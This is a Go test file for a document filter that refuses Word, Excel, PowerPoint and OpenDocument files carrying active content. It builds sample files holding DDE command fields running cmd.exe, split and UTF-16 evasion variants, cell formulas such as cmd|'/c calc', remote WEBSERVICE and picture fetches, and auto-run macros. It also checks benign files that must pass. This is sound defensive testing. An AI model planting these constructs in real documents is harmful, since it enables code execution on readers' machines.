package filetype_test

import (
	"errors"
	"strings"
	"testing"

	"prologis/filetype"
	"prologis/internal/filetest"
)

// ooxml is an Office Open XML document: a main part, of what it holds, and others.
func ooxml(main, contentType, text string, more ...filetest.Part) []byte {
	return filetest.Zip(append([]filetest.Part{
		{Name: "[Content_Types].xml", Text: `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/` + main + `" ContentType="` + contentType + `"/></Types>`},
		{Name: main, Text: text},
	}, more...)...)
}

// word is a Word document with a paragraph.
func word(body string) []byte {
	return ooxml("word/document.xml", document, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="w" xmlns:r="r"><w:body><w:p>`+body+`</w:p></w:body></w:document>`)
}

func cell(formula string) []byte {
	return filetest.OOXML("xl/workbook.xml", sheet, filetest.Part{Name: "xl/worksheets/sheet1.xml", Text: `<worksheet><sheetData><row r="1"><c r="A1"><f>` + formula + `</f><v>0</v></c></row></sheetData></worksheet>`})
}

func workbook(name, text string) []byte {
	return filetest.OOXML("xl/workbook.xml", sheet, filetest.Part{Name: name, Text: text})
}

func slides(text string) []byte {
	return filetest.OOXML("ppt/presentation.xml", slide, filetest.Part{Name: "ppt/slides/slide1.xml", Text: `<p:sld xmlns:a="a" xmlns:p="p" xmlns:r="r">` + text + `</p:sld>`})
}

func odfWith(kind, text string) []byte {
	return filetest.Zip(filetest.Part{Name: "mimetype", Text: odf + kind, Stored: true}, filetest.Part{Name: "META-INF/manifest.xml", Text: "<manifest:manifest/>"},
		filetest.Part{Name: "content.xml", Text: `<?xml version="1.0" encoding="UTF-8"?><office:document-content><office:scripts/><office:body>` + text + `</office:body></office:document-content>`})
}

// instruction is a field of Word whose instruction comes in pieces.
func instruction(pieces ...string) string {
	return `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">` + strings.Join(pieces, `</w:instrText></w:r><w:r><w:instrText>`) +
		`</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

func TestOfficePartsThatAct(t *testing.T) {
	for name, c := range map[string]struct {
		content []byte
		why     string
	}{
		"DDE in pieces":          {word(instruction(" D", "DEA", `UTO c:\\windows\\cmd.exe "/c calc"`)), `DDEAUTO in its part "word/document.xml"`},
		"DDE at once":            {word(`<w:fldSimple w:instr=' DDE "excel" "x"'/>`), "DDE link"},
		"DDE without a space":    {word(instruction(`dde"cmd" "/c calc"`)), "DDE link"},
		"DDE in a field":         {word(`<w:fldChar w:fldCharType="begin"/><w:instrText>IF 1 </w:instrText>` + instruction("DDE", " x") + `<w:fldChar w:fldCharType="end"/>`), "DDE link"},
		"DDE without an end":     {word(`<w:fldChar w:fldCharType="begin"/><w:instrText>DDE x`), "DDE link"},
		"a field of a field":     {word(`<w:fldChar w:fldCharType="begin"/>` + instruction("QUOTE 68 68 69") + `<w:fldChar w:fldCharType="end"/>`), "another makes"},
		"a field of two kinds":   {word(`<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><mc:AlternateContent/><w:instrText>DE</w:instrText><w:fldChar w:fldCharType="end"/>`), "not the same"},
		"fields in fields":       {word(strings.Repeat(`<w:fldChar w:fldCharType="begin"/><w:instrText>IF</w:instrText>`, 100)), "more than 64"},
		"DDE in a header":        {filetest.DOCX(filetest.Part{Name: "word/header1.xml", Text: "<w:hdr>" + instruction("DDEAUTO x") + "</w:hdr>"}), "word/header1.xml"},
		"DDE in UTF-16":          {filetest.DOCX(filetest.Part{Name: "word/footnotes.xml", Text: "\xff\xfe" + strings.Join(strings.Split(instruction("DDEAUTO x"), ""), "\x00") + "\x00"}), "DDE link"},
		"DDE in any part":        {filetest.DOCX(filetest.Part{Name: "word/comments.bin", Text: "\n <w:comments>" + instruction("DDEAUTO x")}), "DDE link"},
		"a text from elsewhere":  {word(instruction(`INCLUDETEXT "C:\\x"`)), "INCLUDETEXT"},
		"a picture by its field": {word(instruction(`INCLUDEPICTURE "https://altrove.example/x.png" \d`)), "altrove.example"},
		"a mail merge":           {filetest.DOCX(filetest.Part{Name: "word/settings.xml", Text: `<w:settings><w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>`}), "connectString"},
		"HTML that is taken in":  {filetest.DOCX(filetest.Part{Name: "word/a.html", Text: "<p>x"}), "imported"},
		"HTML by how it begins":  {filetest.DOCX(filetest.Part{Name: "word/afchunk.dat", Text: " <HTML>"}), "imported"},
		"RTF that is taken in":   {filetest.DOCX(filetest.Part{Name: "word/afchunk.dat", Text: `{\rtf1 x}`}), "imported"},
		"HTML by its type": {filetest.Zip(filetest.Part{Name: "[Content_Types].xml", Text: `<Types><Override PartName="/word/document.xml" ContentType="` + document + `"/><Override PartName="/word/x.dat" ContentType="text/html"/></Types>`},
			filetest.Part{Name: "word/document.xml"}, filetest.Part{Name: "word/x.dat", Text: "x"}), "imported"},
		"a part taken in":                {filetest.DOCX(related("aFChunk", "x.docx", "Internal")), "altChunk"},
		"the place of a part taken in":   {word(`<w:altChunk r:id="rId1"/>`), "altChunk"},
		"buttons":                        {filetest.DOCX(filetest.Part{Name: "customUI/customUI.xml", Text: `<customUI onLoad="Start"/>`}), "customUI"},
		"an add-in":                      {filetest.DOCX(filetest.Part{Name: "word/webextensions/webextension1.xml", Text: `<we:webextension id="x"/>`}), "add-in"},
		"a picture of a drawing":         {filetest.DOCX(filetest.Part{Name: "word/drawings/x.vml", Text: `<v:imagedata src="https://altrove.example/x.png">`}), "altrove.example"},
		"a script in a picture":          {filetest.DOCX(filetest.Part{Name: "word/media/x.svg", Text: `<svg><script>x</script></svg>`}), "a script"},
		"connections":                    {workbook("xl/connections.xml", `<connections><connection id="1" type="1" refreshOnLoad="1"><dbPr connection="ODBC;DSN=x"/></connection></connections>`), "xl/connections.xml"},
		"connections by relation":        {workbook("xl/_rels/workbook.xml.rels", related("connections", "connections.xml", "").Text), "connections"},
		"a web query":                    {workbook("xl/q.xml", `<queryTable name="x" refreshOnLoad="1"/>`), "queryTable"},
		"a pivot table of elsewhere":     {workbook("xl/pivotCache/pivotCacheDefinition1.xml", `<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>`), "pivot table"},
		"a service":                      {cell("_xlfn.WEBSERVICE(&quot;http://altrove.example/&quot;&amp;A1)"), "WEBSERVICE"},
		"a picture in a cell":            {cell(`1+_xlfn.Image ("http://altrove.example/x.png")`), "IMAGE"},
		"DDE in a cell":                  {cell("cmd|'/c calc'!A0"), "DDE link"},
		"DDE in pieces in a cell":        {cell("cmd<!-- x -->|'/c calc'!A0"), "DDE link"},
		"a workbook elsewhere in a cell": {cell(`'\\server\x\[a.xlsx]Foglio1'!A1`), "fetches"},
		"DDE in a rule":                  {workbook("xl/worksheets/s.xml", `<dataValidation><formula1>cmd|'/c calc'!A0</formula1></dataValidation>`), "DDE link"},
		"a macro sheet by relation":      {workbook("xl/_rels/workbook.xml.rels", related("xlMacrosheet", "macrosheets/sheet1.xml", "").Text), "macro sheet"},
		"a macro sheet":                  {workbook("xl/macrosheets/sheet1.xml", `<xm:macrosheet/>`), "macros"},
		"a macro sheet by type": {filetest.Zip(filetest.Part{Name: "[Content_Types].xml", Text: `<Types><Override PartName="/xl/workbook.xml" ContentType="` + sheet + `"/><Override PartName="/xl/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>`},
			filetest.Part{Name: "xl/workbook.xml"}, filetest.Part{Name: "xl/s.xml"}), "macros"},
		"a macro on opening":         {ooxml("xl/workbook.xml", sheet, `<workbook><definedNames><definedName name="_xlnm.Auto_Open1" hidden="1">x!$A$1</definedName></definedNames></workbook>`), "starts by itself"},
		"a button":                   {workbook("xl/drawings/drawing1.xml", `<xdr:sp macro="'\\server\x.xlsm'!Main"/>`), "button"},
		"a program on a slide":       {slides(`<a:hlinkClick r:id="rId2" action="ppaction://program"/>`), `ppaction://program in its part "ppt/slides/slide1.xml"`},
		"a link without a click":     {slides(`<a:hlinkHover r:id="rId2"/>`), "no click"},
		"DDE in a cell of ODS":       {odfWith("spreadsheet", `<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>`), `DDE(), which`},
		"a service of ODS":           {odfWith("spreadsheet", `<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://altrove.example&quot;)"/>`), "WEBSERVICE"},
		"a sheet elsewhere of ODS":   {odfWith("spreadsheet", `<table:table-cell table:formula="of:=['https://altrove.example/x.ods'#$A.A1]"/>`), "altrove.example"},
		"a macro on a click":         {odfWith("text", `<text:a xlink:href="macro:///Standard.M.Main">x</text:a>`), "macro:///"},
		"a script on a click":        {odfWith("text", `<text:a xlink:href="vnd.sun.star.script:x?language=Basic">x</text:a>`), "vnd.sun.star.script"},
		"a picture of the web, ODT":  {odfWith("text", `<draw:image xlink:href="https://altrove.example/x.png"/>`), "altrove.example/x.png"},
		"a page that loads another":  {odfWith("text", `<meta:auto-reload xlink:href="https://altrove.example"/>`), "auto-reload"},
		"a macro by its key, in ODT": {odt("Configurations2/accelerator/current.xml", `<accel:item xlink:href="vnd.sun.star.script:x"/>`), "what runs"},
	} {
		_, _, err := kept(c.content)
		var refused *filetype.Refused
		if !errors.As(err, &refused) || !strings.Contains(refused.Why, c.why) {
			t.Errorf("%s: %v; want a refusal with %q", name, err, c.why)
		}
	}
}

func TestOfficePartsThatDoNot(t *testing.T) {
	for name, content := range map[string][]byte{
		"page numbers, contents, notes": word(instruction(" PAGE ", ` \* MERGEFORMAT `) + instruction(`TOC \o "1-3" \h`) + instruction(`XE "DDE"`) + instruction("ADDIN ZOTERO_ITEM {}") +
			`<w:fldChar w:fldCharType="begin"/><w:instrText>=</w:instrText>` + instruction("PAGE") + `<w:instrText>-1</w:instrText><w:fldChar w:fldCharType="end"/><w:footnoteReference w:id="2"/>`),
		"a link in a field":        word(instruction(`HYPERLINK "https://www.regione.veneto.it"`)),
		"a picture in the text":    word(`<w:drawing><a:blip r:embed="rId4"/></w:drawing><mc:AlternateContent><mc:Choice/></mc:AlternateContent>`),
		"a text about DDE":         word(`<w:r><w:t>DDEAUTO cmd|'/c calc'!A0, =WEBSERVICE("x")</w:t></w:r>`),
		"notes of Word":            filetest.DOCX(filetest.Part{Name: "word/footnotes.xml", Text: `<w:footnotes><w:footnote w:id="2"><w:p>` + instruction("PAGEREF x") + `</w:p></w:footnote></w:footnotes>`}),
		"a custom part in UTF-16":  filetest.DOCX(filetest.Part{Name: "customXml/item1.xml", Text: "\xff\xfe" + strings.Join(strings.Split(`<?xml version="1.0" encoding="utf-16"?><x href="https://x.example"/>`, ""), "\x00") + "\x00"}),
		"a drawing with a doctype": filetest.DOCX(filetest.Part{Name: "word/media/x.svg", Text: `<!DOCTYPE svg PUBLIC "x" "y"><svg xmlns="&ns;"><a xlink:href="https://x.example"/><image href="data:image/png;base64,x"/></svg>`}),
		"notes of Excel":           workbook("xl/drawings/vmlDrawing1.vml", `<xml xmlns:v="v"><v:shape type="#_x0000_t202"><v:textbox><div style='text-align:left'><br></div></v:textbox></v:shape></xml>`),
		"formulas":                 cell(`SUM(A1:A9)&amp;"a|b (IMAGE)"&amp;'Costi | Ricavi'!A1&amp;Tabella1[[#All],[a|b]]&amp;HYPERLINK("https://x.example")&amp;[1]Foglio1!A1`),
		"a pivot table":            workbook("xl/pivotCache/pivotCacheDefinition1.xml", `<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>`),
		"names of Excel":           ooxml("xl/workbook.xml", sheet, `<workbook><definedNames><definedName name="_xlnm.Print_Area">Foglio1!$A$1:$B$2</definedName><definedName name="auto_elettriche">1</definedName></definedNames></workbook>`),
		"pictures of a sheet":      workbook("xl/drawings/drawing1.xml", `<xdr:wsDr><xdr:sp macro=""/><xdr:sp macro="[0]!Vecchia"/></xdr:wsDr>`),
		"links of slides":          slides(`<a:hlinkClick r:id="rId2"/><a:hlinkClick r:id="rId3" action="ppaction://hlinksldjump"/><a:hlinkHover r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>`),
		"a text of OpenDocument":   odfWith("text", `<text:p><text:a xlink:href="https://www.regione.veneto.it">x</text:a><text:a xlink:href="mailto:a@b.example">x</text:a><draw:image xlink:href="Pictures/1.png"/><text:note/></text:p>`),
		"a sheet of OpenDocument":  odfWith("spreadsheet", `<table:table-cell table:formula="of:=SUM([.A1:.A9])+SUM({1;2|3;4})+['file:///home/x/a.ods'#$Foglio1.A1]"/>`),
		"keys of OpenDocument":     odt("Configurations2/accelerator/current.xml", `<accel:acceleratorlist><accel:item xlink:href=".uno:Save"/></accel:acceleratorlist>`),
	} {
		if _, _, err := kept(content); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}
